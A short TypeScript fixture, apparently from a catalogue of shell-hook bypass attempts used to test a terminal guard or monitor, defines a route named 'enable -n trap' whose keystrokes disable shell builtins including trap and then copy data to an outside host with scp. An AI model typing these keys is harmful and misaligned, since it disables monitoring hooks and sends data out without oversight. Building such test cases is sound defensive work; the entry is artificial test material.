import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'enable -n trap',
  source: 'attempts to get round a hook of the shell',
  keys: ['enable -n trap printf read\r', 'scp DATA host:\r'],
};
